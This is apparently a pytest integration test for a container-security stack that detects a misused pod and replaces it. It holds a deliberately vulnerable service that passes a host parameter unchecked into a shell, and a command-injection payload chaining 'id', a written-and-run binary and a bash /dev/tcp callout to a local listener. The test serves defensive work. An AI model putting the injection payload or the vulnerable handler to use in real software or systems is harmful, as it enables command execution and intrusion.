# SPDX-License-Identifier: Apache-2.0
"""From the exploit to the replacement: pods with a real hole behind the real gate, podwatch's records of them, guardd that learns from
them and gives the order, and the responder. Nobody who uses the service well notices, and nothing is left behind."""

import json
import os
import pathlib
import shutil
import socket
import subprocess
import sys
import threading
import time
import urllib.parse
import urllib.request

import pytest
from harness import BUILD, ROOT, Nginx, wait_for
from kernel import Pod, Podwatch, programs_held, programs_there
from kernel import cannot as cannot_watch
from responders import Responder, cannot, version_2
from test_pod_learning import Guardd, of_pods

WHY_NOT = cannot() or cannot_watch() or (None if shutil.which("ip", path=os.environ["PATH"] + ":/usr/sbin") else "there is no ip")
pytestmark = pytest.mark.skipif(WHY_NOT is not None, reason=f"SKIPPED: {WHY_NOT}")
HERE = pathlib.Path(__file__).resolve().parent
NET = f"10.{200 + os.getpid() % 50}.{os.getpid() // 50 % 250}"
REPLICAS = 4
HISTORY = 8  # half hours of learning

# A name of a host goes to a shell unchecked.
SERVICE = r"""
import http.server, subprocess, sys, urllib.parse
class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def do_GET(self):
        query = urllib.parse.parse_qs(urllib.parse.urlsplit(self.path).query)
        status, body = 200, b"up\n"
        if self.path.startswith("/lookup"):
            done = subprocess.run("getent hosts " + query["host"][0], shell=True, capture_output=True)
            status, body = (200 if done.returncode >= 0 and done.stdout else 500), done.stdout
        self.send_response(status)
        self.send_header("Content-Length", str(len(body)))
        self.send_header("X-Pod", sys.argv[1])
        self.end_headers()
        self.wfile.write(body)
    def log_message(self, *_):
        pass
http.server.ThreadingHTTPServer((sys.argv[1], 8080), Handler).serve_forever()
"""


def run(*command, **options):
    return subprocess.run(list(map(str, command)), check=True, capture_output=True, text=True, env={**os.environ, "PATH": os.environ["PATH"]
                          + ":/usr/sbin:/sbin"}, **options)


class Network:
    """A bridge of this test, with the address of the outside."""

    def __init__(self):
        self.bridge, self.spaces = f"gb{os.getpid()}", []
        run("ip", "link", "add", self.bridge, "type", "bridge")
        run("ip", "addr", "add", f"{NET}.1/24", "dev", self.bridge)
        run("ip", "link", "set", self.bridge, "up")

    def join(self, number):
        space, end = f"gn{os.getpid()}x{number}", f"gv{os.getpid()}x{number}"
        run("ip", "netns", "add", space)
        self.spaces.append(space)
        run("ip", "link", "add", end, "type", "veth", "peer", "name", "eth0", "netns", space)
        run("ip", "link", "set", end, "master", self.bridge, "up")
        for command in (["addr", "add", f"{NET}.{10 + number}/24", "dev", "eth0"], ["link", "set", "eth0", "up"], ["link", "set", "lo", "up"]):
            run("ip", "-n", space, *command)
        return space

    def end(self):
        for space in self.spaces:
            run("ip", "netns", "del", space)
        run("ip", "link", "del", self.bridge)


class Cluster:
    """What a kubelet and a service do: pods with an address each, their list, and which of them get requests."""

    def __init__(self, folder, root):
        self.folder, self.root, self.network, self.pods, self.addresses = folder, root, Network(), {}, []
        self.programs = set()  # in the kernel, that were held for it
        self.service = folder / "service.py"
        self.service.write_text(SERVICE)
        self.list, self.upstream = folder / "pods.json", folder / "upstream.conf"
        self.nginx = None

    def add(self, number):
        pod = Pod(self.root, os.getpid() * 16 + number)
        pod.name, pod.address = f"cart-7f9c-{number:05}", f"{NET}.{10 + number}"
        space = self.network.join(number)
        self.pods[number] = pod
        self.list.with_suffix(".new").write_text(json.dumps({"kind": "PodList", "items": [self.described(one) for one in self.pods.values()]}))
        self.list.with_suffix(".new").rename(self.list)
        pod.start("/usr/sbin/ip" if os.path.exists("/usr/sbin/ip") else "ip", "netns", "exec", space, sys.executable, self.service, pod.address)
        wait_for(lambda: urllib.request.urlopen(f"http://{pod.address}:8080/health").status == 200, f"{pod.name} to answer")
        return pod

    @staticmethod
    def described(pod):
        return {"metadata": {"name": pod.name, "namespace": "shop", "uid": pod.uid, "labels": {"app": "cart", "pod-template-hash": "7f9c"},
                             "ownerReferences": [{"kind": "ReplicaSet", "name": "cart-7f9c", "controller": True}]},
                "spec": {"containers": [{"name": "app", "image": "cart:1"}]},
                "status": {"containerStatuses": [{"name": "app", "containerID": f"containerd://{pod.container}", "imageID": "sha256:0123"}]}}

    def serve(self, addresses):
        self.addresses = addresses
        self.upstream.write_text("".join(f"server {address}:8080 max_fails=0;\n" for address in addresses))
        if self.nginx is not None:
            self.nginx.reload()

    def end(self):
        for pod in self.pods.values():
            pod.end()
        self.network.end()


@pytest.fixture
def cluster(tmp_path):
    root = version_2() / f"guardtest{os.getpid()}e.slice"
    root.mkdir()
    made = Cluster(tmp_path, root)
    made.serve([])
    yield made
    made.end()
    if root.exists():
        wait_for(lambda: root.rmdir() is None, "the root group to be removed")
    names = run("ip", "-o", "link").stdout + run("ip", "netns", "list").stdout
    assert not any(name in names for name in (made.network.bridge, *made.network.spaces))
    wait_for(lambda: not programs_there(made.programs), "the kernel to have no programs of ours")


@pytest.fixture(scope="session")
def pod_replay(tmp_path_factory):
    out = tmp_path_factory.mktemp("pod_replay") / "pod_replay"
    subprocess.run([os.environ.get("CC", "cc"), "-std=gnu17", "-I", ROOT / "include", "-o", out, HERE / "pod_replay.c",
                    BUILD / "lib" / "libguard.a", "-lsodium", "-lm"], check=True)
    return out


class Learner:
    """guardd, which gets podwatch's records when the test hands them over. The service's own gate has another state: what it would block
    itself is no part of this."""

    def __init__(self, folder, replay):
        self.state, self.replay, self.files = folder / "state", replay, 0
        (self.state / "guardians").mkdir(parents=True)
        (self.state / "guardians" / "cart.yaml").write_text("service: cart\ncontrol:\n  mode: block\n")
        self.folder = self.state / "pods"
        self.folder.mkdir()
        self.guardd = Guardd(self.state, log=folder / "learner.log", options=("--pod-orders", "act")).start()

    def hand_over(self, records, half_hours=0):
        data = subprocess.run([self.replay, records, str(half_hours)], capture_output=True, check=True).stdout
        assert data, "podwatch saw nothing of the pods"
        self.files += 1
        path = self.folder / f"00000000000000aa-0000000000000001-{self.files:020}.pods"
        path.with_suffix(".tmp").write_bytes(data)
        path.with_suffix(".tmp").rename(path)

    def learned(self):
        wait_for(lambda: not list(self.folder.glob("*.pods")), "the records to be learned and saved", 120)

    def orders(self):
        return [json.loads(path.read_text()) for path in (self.folder / "given").glob("*.json")]

    def named(self):
        return {alert["findings"][0]["name"] for alert in of_pods(self.guardd)}


class Client(threading.Thread):
    """One who uses the service well, all the time."""

    def __init__(self, url):
        super().__init__()
        self.url, self.stopping, self.answers, self.failures = url, threading.Event(), 0, []

    def run(self):
        while not self.stopping.is_set():
            path = "/lookup?host=localhost" if self.answers % 3 else "/health"
            try:
                with urllib.request.urlopen(self.url + path, timeout=60) as answer:
                    if answer.status != 200 or not answer.read():
                        self.failures.append(answer.status)
            except OSError as error:
                self.failures.append(str(error))
            self.answers += 1

    def more(self, count):
        begin = self.answers
        wait_for(lambda: self.answers >= begin + count, lambda: f"{count} more answers than {begin}: {self.answers}, {self.failures}")


def collect(watching, folder):
    """The records so far, moved away."""
    folder.mkdir()
    for path in sorted(watching.records.glob("*.pods")):
        path.rename(folder / path.name)
    return folder


def script(path, text):
    path.write_text("#!/bin/sh\nset -e\n" + text)
    path.chmod(0o755)
    return [str(path)]


def test_the_misused_pod_is_replaced_and_nobody_else_notices(cluster, pod_replay, tmp_path):
    pods = [cluster.add(number) for number in range(REPLICAS)]
    cluster.serve([pod.address for pod in pods])
    state = tmp_path / "gate-state"
    cluster.nginx = Nginx(tmp_path / "nginx", f"""
        guard_state {state};
        upstream cart {{ include {cluster.upstream}; }}
        server {{ listen 127.0.0.1:{{port}};
            location / {{ guard cart; proxy_pass http://cart; proxy_http_version 1.1;
                proxy_next_upstream error timeout http_500 http_502; proxy_next_upstream_tries 3; }} }}""").start()
    watching = Podwatch(tmp_path, cluster.root.name, "--pods", cluster.list)
    if "exec" in watching.status()["unseen"]:
        watching.end()
        pytest.skip(f"SKIPPED: this kernel refuses what tells of programs: {watching.refused()}")
    client = Client(cluster.nginx.url("").rstrip("/"))
    learner = Learner(tmp_path / "learner", pod_replay)
    serving = respond(cluster, learner, tmp_path)
    try:
        client.start()
        client.more(40)
        watching.intervals(2)
        benign = collect(watching, tmp_path / "benign")
        for half_hours in range(HISTORY, 0, -1):
            learner.hand_over(benign, half_hours)
        client.more(20)
        watching.intervals(2)
        learner.hand_over(collect(watching, tmp_path / "later"))
        learner.learned()
        assert of_pods(learner.guardd) == [] and learner.orders() == []  # as before: no alert

        bad, fresh = exploit(cluster, pods, tmp_path), {}
        helper = threading.Thread(target=kubelet, args=(cluster, bad, tmp_path, fresh))
        helper.start()
        watching.await_feature(None, "dropped")
        watching.intervals(2)
        learner.hand_over(collect(watching, tmp_path / "attack"))
        given = wait_for(learner.orders, lambda: f"guardd's order: {of_pods(learner.guardd)}")
        assert [one["pod"] for one in given] == [{"name": bad.name, "uid": bad.uid}] and not given[0]["dryRun"]
        assert any(one["hard"] for one in given[0]["evidence"]), given
        order = given[0]["id"]
        line = serving.did(order, "contain")
        if line["outcome"] == "failed" and "kernel takes no programs" in line["detail"]:
            pytest.skip(f"SKIPPED: {line['detail']}")
        cluster.programs = programs_held(watching.process) | programs_held(serving.process)
        assert {"watch_", "contai"} <= {name[:6] for name in programs_there(cluster.programs)}
        end = serving.ended(order)
        helper.join()
        assert end["end"] == "replaced", serving.lines(order)
        wait_for(lambda: not bad.pids(), "the misused pod to be gone")
        wait_for(lambda: any(alert["findings"][0]["rule"] == "pod-order-replaced" for alert in of_pods(learner.guardd)), "guardd to tell of it")
        assert learner.named() == {f"shop/{bad.name}"}
        captured = (serving.state / "captures" / order / "processes.jsonl").read_text()
        assert str(cluster.service) in captured
        client.more(20)
        assert all(pod.pids() for pod in [*pods, fresh["pod"]] if pod is not bad)
    finally:
        client.stopping.set()
        client.join()
        for one in (serving, watching):
            one.end()
        learner.guardd.stop()
        cluster.nginx.stop()
    assert client.failures == [] and client.answers >= 80
    print(f"{client.answers} requests of the benign client, 0 failed")


def exploit(cluster, pods, tmp_path):
    """Runs programs, writes one and runs it, and calls out, in whichever pod the gate hands the request to."""
    tool = tmp_path / "X"
    with socket.create_server((f"{NET}.1", 4444)) as server:
        server.settimeout(60)
        text = f"localhost;id;cp /bin/true {tool};{tool};bash -c 'echo hi >/dev/tcp/{NET}.1/4444'"
        with urllib.request.urlopen(cluster.nginx.url("/lookup?host=" + urllib.parse.quote(text))) as answer:
            address = answer.headers["X-Pod"]
            assert b"uid=0" in answer.read()
        connection, peer = server.accept()
        assert connection.recv(10) == b"hi\n" and peer[0] == address
        connection.close()
    return next(pod for pod in pods if pod.address == address)


def respond(cluster, learner, tmp_path):
    """Out of service is taking it out of the upstream: asked of the cluster by a file."""
    out = script(tmp_path / "out.sh", f'touch "{tmp_path}/out"\nwhile [ ! -e "{tmp_path}/is-out" ]; do sleep 0.05; done\necho "out of the upstream"\n')
    ready = script(tmp_path / "ready.sh", f'test -e "{tmp_path}/is-ready"\n')
    return Responder(tmp_path / "r", cluster.root, guard=learner.state, workload={"steps": {
        "contain": {}, "capture": {}, "outOfService": {"command": out, "seconds": 60}, "waitReady": {"command": ready, "everySeconds": 1},
        "remove": {"kill": True}, "verify": {"watchSeconds": 1}}}).start()


def kubelet(cluster, bad, tmp_path, fresh):
    end = time.monotonic() + 120
    while not (tmp_path / "out").exists() and time.monotonic() < end:
        time.sleep(0.02)
    others = [address for address in cluster.addresses if address != bad.address]
    cluster.serve(others)
    (tmp_path / "is-out").touch()
    fresh["pod"] = cluster.add(REPLICAS)
    cluster.serve([*others, fresh["pod"].address])
    (tmp_path / "is-ready").touch()
